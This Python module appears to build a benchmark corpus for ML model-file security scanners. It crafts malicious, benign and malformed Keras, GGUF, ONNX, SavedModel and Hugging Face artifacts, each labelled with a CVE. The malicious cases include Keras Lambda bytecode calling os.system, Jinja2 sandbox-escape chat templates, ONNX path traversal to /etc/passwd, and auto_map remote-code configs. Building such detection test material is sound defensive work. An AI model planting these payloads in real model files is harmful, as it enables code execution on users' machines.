"""Formats that carry code without a pickle: Keras (.keras, .h5), GGUF chat templates,
ONNX external data and custom domains, TensorFlow SavedModel Python-function ops, and
Hugging Face `auto_map` configs.

Keras and GGUF artifacts are written by the real libraries and then patched; ONNX and
SavedModel bytes are written field by field (see `craft.pb_*`): tensorflow is ~600 MB
and only needed to *write* a graph we can describe in a few protobuf fields.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import tempfile
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

from craft import PY_CMD, make_zip, pb_bytes, pb_int, pb_str, varint

if TYPE_CHECKING:
    from build import Corpus

KERAS_SAVING = "https://keras.io/guides/serialization_and_saving/"
LAMBDA_SRC = f"lambda x: {PY_CMD} or x"


def _evil_lambda_code() -> str:
    """Keras' Lambda encoding (base64 of marshal.dumps(code)) of a payload; never run."""
    module = compile(LAMBDA_SRC, "<keras>", "eval")
    code = next(c for c in module.co_consts if hasattr(c, "co_code"))
    return base64.encodebytes(marshal.dumps(code)).decode("ascii")


def _layers(config: Any) -> Iterator[dict[str, Any]]:
    stack = [config]
    while stack:
        node = stack.pop()
        if isinstance(node, dict):
            if "class_name" in node and isinstance(node.get("config"), dict):
                yield node
            stack.extend(node.values())
        elif isinstance(node, list):
            stack.extend(node)


def _patch_config(config: dict[str, Any], patch: Callable[[dict[str, Any]], None]) -> str:
    for layer in list(_layers(config)):
        patch(layer)
    return json.dumps(config)


def _evil_lambda(layer: dict[str, Any]) -> None:
    if layer["class_name"] == "Lambda":
        layer["config"]["function"]["config"]["code"] = _evil_lambda_code()


def _fn_ref(module: str, name: str) -> dict[str, Any]:
    return {
        "module": module,
        "class_name": "function",
        "config": name,
        "registered_name": "function",
    }


def _rewrite_keras(data: bytes, members: dict[str, bytes | None]) -> bytes:
    """A .keras archive with some members replaced (None drops one)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            if info.filename in members:
                new = members[info.filename]
                if new is not None:
                    dst.writestr(info, new)
            else:
                dst.writestr(info, src.read(info))
    return out.getvalue()


def keras_cases(c: Corpus) -> None:
    os.environ.setdefault("KERAS_BACKEND", "jax")
    import h5py
    import keras

    cls = "keras"
    keras.utils.set_random_seed(0)
    dense = keras.Sequential(
        [keras.Input((4,)), keras.layers.Dense(3, activation="relu"), keras.layers.Dense(1)]
    )
    lam = keras.Sequential(
        [keras.Input((4,)), keras.layers.Lambda(lambda x: x * 2.0), keras.layers.Dense(1)]
    )
    with tempfile.TemporaryDirectory() as tmp:
        saved: dict[str, bytes] = {}
        for name, model, ext in (
            ("dense", dense, ".keras"),
            ("dense", dense, ".h5"),
            ("lam", lam, ".keras"),
            ("lam", lam, ".h5"),
        ):
            path = Path(tmp) / (name + ext)
            model.save(path)
            saved[name + ext] = path.read_bytes()
        weights = Path(tmp) / "model.weights.h5"
        dense.save_weights(weights)
        saved["weights"] = weights.read_bytes()

    def config_of(archive: bytes) -> dict[str, Any]:
        with zipfile.ZipFile(io.BytesIO(archive)) as z:
            return dict(json.loads(z.read("config.json")))

    evil_cfg = _patch_config(config_of(saved["lam.keras"]), _evil_lambda)
    c.add(
        cls,
        "keras_lambda_bytecode",
        "model.keras",
        _rewrite_keras(saved["lam.keras"], {"config.json": evil_cfg.encode()}),
        expect="malicious",
        source="CVE-2024-3660",
        what="Keras v3 archive, Lambda layer with marshalled bytecode calling os.system",
    )

    def os_activation(layer: dict[str, Any]) -> None:
        if layer["class_name"] == "Dense" and layer["config"].get("units") == 3:
            layer["config"]["activation"] = _fn_ref("os", "system")

    c.add(
        cls,
        "keras_module_outside_allowlist",
        "model.keras",
        _rewrite_keras(
            saved["dense.keras"],
            {"config.json": _patch_config(config_of(saved["dense.keras"]), os_activation).encode()},
        ),
        expect="malicious",
        source="CVE-2025-1550",
        what="config.json points a Dense activation at module `os`, function `system`",
    )

    def unsafe_chain(layer: dict[str, Any]) -> None:
        if layer["class_name"] == "Lambda":
            layer["config"]["function"] = _fn_ref("keras.config", "enable_unsafe_deserialization")

    chain = config_of(saved["lam.keras"])
    _patch_config(chain, unsafe_chain)
    second = json.loads(
        json.dumps(next(lyr for lyr in _layers(chain) if lyr["class_name"] == "Lambda"))
    )
    second["config"]["name"] = "lambda_payload"
    second["config"]["function"] = {
        "module": "keras.models",
        "class_name": "function",
        "config": "load_model",
        "registered_name": "function",
    }
    second["config"]["arguments"] = {"filepath": "/tmp/attacker.keras", "safe_mode": False}
    chain["config"]["layers"].insert(2, second)
    c.add(
        cls,
        "keras_enable_unsafe_deserialization",
        "model.keras",
        _rewrite_keras(saved["lam.keras"], {"config.json": json.dumps(chain).encode()}),
        expect="malicious",
        source="CVE-2025-9906; CVE-2025-8747",
        what="Lambda calling keras.config.enable_unsafe_deserialization, then a Lambda "
        "calling keras.models.load_model(safe_mode=False)",
    )
    c.add(
        cls,
        "keras_no_metadata",
        "model.keras",
        make_zip([("config.json", evil_cfg.encode())], compress=zipfile.ZIP_DEFLATED),
        expect="malicious",
        source="CVE-2024-3660",
        what=".keras archive with only config.json (no metadata.json, no weights): the "
        "Lambda bytecode runs while the config is deserialised",
    )

    def evil_h5(path: Path) -> None:
        path.write_bytes(saved["lam.h5"])
        with h5py.File(path, "r+") as f:
            raw = f.attrs["model_config"]
            config = json.loads(raw.decode() if isinstance(raw, bytes) else raw)
            f.attrs["model_config"] = _patch_config(config, _evil_lambda)

    c.add(
        cls,
        "keras_h5_lambda",
        "model.h5",
        evil_h5,
        expect="malicious",
        source="CVE-2025-9905",
        what="legacy HDF5 Keras model whose Lambda layer holds os.system bytecode "
        "(safe_mode is ignored for .h5)",
    )
    c.add(
        cls,
        "keras_dense_benign",
        "model.keras",
        saved["dense.keras"],
        expect="benign",
        source=KERAS_SAVING,
        what=f"real keras {keras.__version__} .keras (Dense, jax)",
    )
    c.add(
        cls,
        "keras_h5_benign",
        "model.h5",
        saved["dense.h5"],
        expect="benign",
        source=KERAS_SAVING,
        what="real keras legacy .h5 (Dense)",
    )
    c.add(
        cls,
        "keras_weights_h5_benign",
        "model.weights.h5",
        saved["weights"],
        expect="benign",
        source=KERAS_SAVING,
        what="real keras .weights.h5",
    )
    c.add(
        cls,
        "keras_config_not_json",
        "model.keras",
        _rewrite_keras(saved["dense.keras"], {"config.json": b'{"class_name": Seq'}),
        expect="fail-closed",
        source=KERAS_SAVING,
        what=".keras whose config.json is cut",
    )


CHATML = (
    "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + "
    "message['content'] + '<|im_end|>' + '\\n' }}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)
ALTERNATING = (
    "{% if messages[0]['role'] == 'system' %}{% set loop_messages = messages[1:] %}"
    "{% set system_message = messages[0]['content'] %}{% else %}"
    "{% set loop_messages = messages %}{% set system_message = false %}{% endif %}"
    "{% for message in loop_messages %}"
    "{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
    "{{ raise_exception('Conversation roles must alternate user/assistant') }}{% endif %}"
    "{% if loop.index0 == 0 and system_message %}{{ '<<SYS>>' + system_message + "
    "'<</SYS>>' }}{% endif %}"
    "{% if message['role'] == 'user' %}{{ bos_token + '[INST] ' + message['content'] | trim + "
    "' [/INST]' }}{% else %}{{ ' ' + message['content'] | trim + ' ' + eos_token }}{% endif %}"
    "{% endfor %}"
)
SSTI_SUBCLASSES = (
    "{% for c in ().__class__.__base__.__subclasses__() %}"
    "{% if c.__name__ == 'catch_warnings' %}"
    "{{ c()._module.__builtins__['__import__']('os').system('echo pwned') }}"
    "{% endif %}{% endfor %}" + CHATML
)
SSTI_ATTR = (
    "{% set g = cycler|attr('__in' ~ 'it__')|attr('__glo' ~ 'bals__') %}"
    "{{ g['o' ~ 's'].popen('echo pwned').read() }}" + CHATML
)


def _gguf(template: str | None) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        import gguf
        import numpy as np

        writer = gguf.GGUFWriter(str(path), "llama")
        writer.add_name("tiny")
        writer.add_context_length(64)
        if template is not None:
            writer.add_chat_template(template)
        writer.add_tensor("token_embd.weight", np.ones((8, 4), dtype=np.float32))
        writer.write_header_to_file()
        writer.write_kv_data_to_file()
        writer.write_tensors_to_file()
        writer.close()

    return write


def gguf_cases(c: Corpus) -> None:
    cls = "gguf"
    source = "CVE-2024-34359"
    c.add(
        cls,
        "gguf_template_subclasses",
        "model.gguf",
        _gguf(SSTI_SUBCLASSES),
        expect="malicious",
        source=source,
        what="tokenizer.chat_template walks __subclasses__ to os.system (sandbox escape)",
    )
    c.add(
        cls,
        "gguf_template_attr_concat",
        "model.gguf",
        _gguf(SSTI_ATTR),
        expect="malicious",
        source=source,
        what="chat_template reaches os via |attr() on names built by "
        "concatenation (no literal dunder in the text)",
    )
    c.add(
        cls,
        "gguf_template_chatml",
        "model.gguf",
        _gguf(CHATML),
        expect="benign",
        source=source,
        what="real GGUF (gguf package) with a ChatML chat_template",
    )
    c.add(
        cls,
        "gguf_template_raise_exception",
        "model.gguf",
        _gguf(ALTERNATING),
        expect="benign",
        source=source,
        what="real GGUF with a Llama-2 style template (raise_exception, filters, slicing)",
    )
    c.add(
        cls,
        "gguf_no_template",
        "model.gguf",
        _gguf(None),
        expect="benign",
        source=source,
        what="real GGUF without a chat template",
    )

    def truncated(path: Path) -> None:
        _gguf(CHATML)(path)
        data = path.read_bytes()
        path.write_bytes(data[: len(data) // 3])

    c.add(
        cls,
        "gguf_truncated",
        "model.gguf",
        truncated,
        expect="fail-closed",
        source="https://github.com/ggml-org/ggml/blob/master/docs/gguf.md",
        what="GGUF cut in its metadata",
    )


def _onnx_model(
    *, external: str | None = None, custom_domain: str | None = None, ml_domain: bool = False
) -> bytes:
    import numpy as np
    from onnx import TensorProto, helper, numpy_helper

    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])
    opsets = [helper.make_opsetid("", 17)]
    if external is None:
        weight = numpy_helper.from_array(np.arange(4, dtype=np.float32), "w")
    else:
        weight = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[4])
        weight.data_location = TensorProto.EXTERNAL
        for key, value in (("location", external), ("offset", "0"), ("length", "16")):
            entry = weight.external_data.add()
            entry.key, entry.value = key, value
    if custom_domain is not None:
        node = helper.make_node("RunShell", ["x"], ["y"], domain=custom_domain)
        opsets.append(helper.make_opsetid(custom_domain, 1))
        inits: list[Any] = []
    elif ml_domain:
        node = helper.make_node("Normalizer", ["x"], ["y"], domain="ai.onnx.ml", norm="L2")
        opsets.append(helper.make_opsetid("ai.onnx.ml", 3))
        inits = []
    else:
        node = helper.make_node("Add", ["x", "w"], ["y"])
        inits = [weight]
    graph = helper.make_graph([node], "tiny", [x], [y], initializer=inits)
    model = helper.make_model(graph, opset_imports=opsets, producer_name="mlwarden-bench")
    return bytes(model.SerializeToString())


def onnx_cases(c: Corpus) -> None:
    cls = "onnx"
    c.add(
        cls,
        "onnx_external_dotdot",
        "model.onnx",
        _onnx_model(external="../../../../../../etc/passwd"),
        expect="malicious",
        source="CVE-2022-25882",
        what="initializer external data at ../../../../../../etc/passwd",
    )
    c.add(
        cls,
        "onnx_external_absolute",
        "model.onnx",
        _onnx_model(external="/etc/passwd"),
        expect="malicious",
        source="CVE-2022-25882",
        what="initializer external data at an absolute path",
    )
    c.add(
        cls,
        "onnx_custom_domain",
        "model.onnx",
        _onnx_model(custom_domain="com.attacker.exec"),
        expect="malicious",
        source="https://onnxruntime.ai/docs/reference/operators/add-custom-op.html",
        what="node RunShell in a custom op domain (runs whatever library registers it)",
    )
    c.add(
        cls,
        "onnx_benign",
        "model.onnx",
        _onnx_model(),
        expect="benign",
        source="https://onnx.ai/onnx/intro/python.html",
        what="real onnx Add model",
    )
    c.add(
        cls,
        "onnx_external_inside",
        "model.onnx",
        _onnx_model(external="weights.bin"),
        extra={"weights.bin": bytes(16)},
        expect="benign",
        source="https://onnx.ai/onnx/repo-docs/ExternalData.html",
        what="external data in a file next to the model",
    )
    c.add(
        cls,
        "onnx_ml_domain",
        "model.onnx",
        _onnx_model(ml_domain=True),
        expect="benign",
        source="https://onnx.ai/onnx/operators/onnx_aionnxml_Normalizer.html",
        what="standard ai.onnx.ml domain (Normalizer)",
    )
    c.add(
        cls,
        "onnx_garbage",
        "model.onnx",
        b"\x08\x07\x12" + b"\xff" * 64,
        expect="fail-closed",
        source="https://onnx.ai/onnx/repo-docs/IR.html",
        what="model.onnx that is no valid protobuf",
    )


# --- TensorFlow SavedModel, field by field (tensorflow/core/protobuf/*.proto) ------------

DT_FLOAT = 1


def _attr(key: str, value: bytes) -> bytes:
    return pb_bytes(5, pb_str(1, key) + pb_bytes(2, value))


def _type_attr(dtype: int = DT_FLOAT) -> bytes:
    return pb_int(6, dtype)


def _type_list(*dtypes: int) -> bytes:
    return pb_bytes(1, pb_bytes(6, b"".join(varint(d) for d in dtypes)))


def _node(name: str, op: str, inputs: tuple[str, ...] = (), attrs: bytes = b"") -> bytes:
    body = pb_str(1, name) + pb_str(2, op) + b"".join(pb_str(3, i) for i in inputs) + attrs
    return body


def _pyfunc(name: str, op: str, inputs: tuple[str, ...]) -> bytes:
    attrs = (
        _attr("token", pb_str(2, "pyfunc_0"))
        + _attr("Tin", _type_list(DT_FLOAT))
        + _attr("Tout", _type_list(DT_FLOAT))
    )
    return _node(name, op, inputs, attrs)


def _saved_model(nodes: list[bytes], functions: tuple[bytes, ...] = ()) -> bytes:
    graph = b"".join(pb_bytes(1, n) for n in nodes)
    if functions:
        graph += pb_bytes(2, b"".join(pb_bytes(1, f) for f in functions))
    graph += pb_bytes(4, pb_int(1, 1645))
    meta_info = pb_str(4, "serve") + pb_str(5, "2.21.0")
    meta_graph = pb_bytes(1, meta_info) + pb_bytes(2, graph)
    return pb_int(1, 1) + pb_bytes(2, meta_graph)


def _const(name: str, values: list[float]) -> bytes:
    import struct

    shape = pb_bytes(2, pb_int(1, len(values)))
    tensor = (
        pb_int(1, DT_FLOAT)
        + pb_bytes(2, shape)
        + pb_bytes(4, struct.pack(f"<{len(values)}f", *values))
    )
    return _node(
        name, "Const", (), _attr("dtype", _type_attr()) + _attr("value", pb_bytes(8, tensor))
    )


def savedmodel_cases(c: Corpus) -> None:
    cls = "tf-savedmodel"
    source = "https://www.tensorflow.org/api_docs/python/tf/py_function"
    placeholder = _node("x", "Placeholder", (), _attr("dtype", _type_attr()))
    identity = _node("y", "Identity", ("pyfunc",), _attr("T", _type_attr()))
    c.add(
        cls,
        "savedmodel_pyfunc",
        "saved_model.pb",
        _saved_model([placeholder, _pyfunc("pyfunc", "PyFunc", ("x",)), identity]),
        extra={"variables/.keep": b""},
        expect="malicious",
        source=source,
        what="SavedModel graph with a PyFunc op (runs a Python function of the saving "
        "process; tf.py_func)",
    )
    signature = (
        pb_str(1, "__inference_call_7")
        + pb_bytes(2, pb_str(1, "x") + pb_int(3, 1))
        + pb_bytes(3, pb_str(1, "y") + pb_int(3, 1))
    )
    function = (
        pb_bytes(1, signature)
        + pb_bytes(3, _pyfunc("eager", "EagerPyFunc", ("x",)))
        + pb_bytes(4, pb_str(1, "y") + pb_str(2, "eager:output:0"))
    )
    call = _node(
        "call",
        "StatefulPartitionedCall",
        ("x",),
        _attr("f", pb_bytes(10, pb_str(1, "__inference_call_7")))
        + _attr("Tin", _type_list(DT_FLOAT))
        + _attr("Tout", _type_list(DT_FLOAT)),
    )
    c.add(
        cls,
        "savedmodel_eagerpyfunc_in_function",
        "saved_model.pb",
        _saved_model([placeholder, call], (function,)),
        extra={"variables/.keep": b""},
        expect="malicious",
        source=source,
        what="EagerPyFunc op inside a function of the graph's FunctionDefLibrary",
    )
    benign = [
        placeholder,
        _const("w", [1.0, 2.0, 3.0, 4.0]),
        _node("mul", "Mul", ("x", "w"), _attr("T", _type_attr())),
        _node("y", "Identity", ("mul",), _attr("T", _type_attr())),
    ]
    c.add(
        cls,
        "savedmodel_benign",
        "saved_model.pb",
        _saved_model(benign),
        extra={"variables/.keep": b""},
        expect="benign",
        source="https://www.tensorflow.org/guide/saved_model",
        what="SavedModel graph of Placeholder, Const, Mul, Identity",
    )


# --- Hugging Face configs ------------------------------------------------------------------

HF_REMOTE = "https://huggingface.co/docs/transformers/custom_models#sharing-custom-models"
MODELING = b"import os\n\nos.system('echo pwned')\n\n\nclass EvilModel:\n    pass\n"


def hf_cases(c: Corpus) -> None:
    cls = "hf-config"
    base = {"architectures": ["EvilModel"], "model_type": "evil", "hidden_size": 8}
    c.add(
        cls,
        "hf_config_auto_map",
        "config.json",
        json.dumps(
            {
                **base,
                "auto_map": {
                    "AutoConfig": "configuration_evil.EvilConfig",
                    "AutoModel": "modeling_evil.EvilModel",
                },
            },
            indent=2,
        ).encode(),
        extra={"modeling_evil.py": MODELING, "configuration_evil.py": MODELING},
        expect="malicious",
        source=HF_REMOTE,
        what="config.json auto_map: trust_remote_code=True imports modeling_evil.py",
    )
    c.add(
        cls,
        "hf_config_auto_map_other_repo",
        "config.json",
        json.dumps(
            {**base, "auto_map": {"AutoModel": "attacker/evil-model--modeling_evil.EvilModel"}}
        ).encode(),
        expect="malicious",
        source=HF_REMOTE,
        what="auto_map pointing at code in another Hub repository",
    )
    c.add(
        cls,
        "hf_tokenizer_auto_map",
        "tokenizer_config.json",
        json.dumps(
            {
                "tokenizer_class": "EvilTokenizer",
                "auto_map": {"AutoTokenizer": ["tokenization_evil.EvilTokenizer", None]},
            }
        ).encode(),
        extra={"tokenization_evil.py": MODELING},
        expect="malicious",
        source=HF_REMOTE,
        what="tokenizer_config.json auto_map (remote tokenizer code)",
    )
    c.add(
        cls,
        "hf_config_benign",
        "config.json",
        json.dumps(
            {
                "architectures": ["BertModel"],
                "model_type": "bert",
                "hidden_size": 32,
                "num_attention_heads": 2,
                "num_hidden_layers": 2,
                "vocab_size": 100,
            },
            indent=2,
        ).encode(),
        expect="benign",
        source=HF_REMOTE,
        what="plain BERT config.json",
    )
    c.add(
        cls,
        "hf_tokenizer_chat_template_benign",
        "tokenizer_config.json",
        json.dumps(
            {
                "tokenizer_class": "LlamaTokenizer",
                "bos_token": "<s>",
                "eos_token": "</s>",
                "chat_template": ALTERNATING,
            }
        ).encode(),
        expect="benign",
        source=HF_REMOTE,
        what="tokenizer_config.json with an ordinary chat template",
    )
